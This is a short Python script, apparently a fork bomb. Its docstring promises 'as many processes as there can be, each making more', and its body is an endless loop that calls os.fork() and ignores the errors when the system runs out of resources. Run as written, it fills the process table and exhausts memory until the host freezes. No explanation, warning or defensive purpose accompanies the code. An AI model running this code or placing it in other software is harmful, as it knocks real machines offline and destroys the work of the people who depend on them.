"""As many processes as there can be, each making more."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
